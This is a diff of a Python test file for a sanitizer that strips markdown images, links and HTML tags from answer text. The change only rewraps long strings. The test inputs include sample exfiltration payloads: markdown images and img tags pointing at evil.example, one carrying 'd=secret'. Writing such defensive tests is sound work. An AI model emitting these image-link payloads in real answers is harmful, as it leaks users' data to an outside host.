@@ -34,7 +34,10 @@ def test_links_images_tags_and_control_characters_do_not_pass(written: str, show
 
 
 def test_no_prefix_of_a_hostile_answer_ever_shows_its_address() -> None:
-    written = "You get ![pixel](https://evil.example/p?d=secret) twelve weeks <img src=https://evil.example/x> [a](http://evil.example) ."
+    written = (
+        "You get ![pixel](https://evil.example/p?d=secret) twelve weeks "
+        "<img src=https://evil.example/x> [a](http://evil.example) ."
+    )
     for end in range(len(written) + 1):
         shown = to_plain_text(written[:end])
         assert "evil.example" not in shown
@@ -43,7 +46,7 @@ def test_no_prefix_of_a_hostile_answer_ever_shows_its_address() -> None:
 
 PAGE = """Run curl <host>:8080 now, or use List<String>. The portal is https://vpn.corp.example/start, the form
 https://forms.corp.example/?id=7. Override __init__ and read arr[0]. In <b>x</b>, <img src="https://pics.example/a.png"> and
-<at>All</at> show. See [the form](https://docs.corp.example/a) too. Press Ctrl+K // then Enter."""
+<at>All</at> show. See [the form](https://docs.corp.example/a) too. Press Ctrl+K // then Enter."""  # noqa: E501, RUF100
 
 
 @pytest.mark.parametrize(
@@ -107,7 +110,10 @@ def test_joiners_and_signs_of_comparison_stay(written: str, shown: str) -> None:
 
 
 def test_no_prefix_of_an_answer_shows_a_longer_address_than_the_pages() -> None:
-    written = "Open https://vpn.corp.example/start?q=secret and ![p](https://vpn.corp.example/start?d=1) or <img src=x> [a](http://e.example) ."
+    written = (
+        "Open https://vpn.corp.example/start?q=secret and "
+        "![p](https://vpn.corp.example/start?d=1) or <img src=x> [a](http://e.example) ."
+    )
     for end in range(len(written) + 1):
         shown = to_plain_text(written[:end], PAGE)
         assert "secret" not in shown
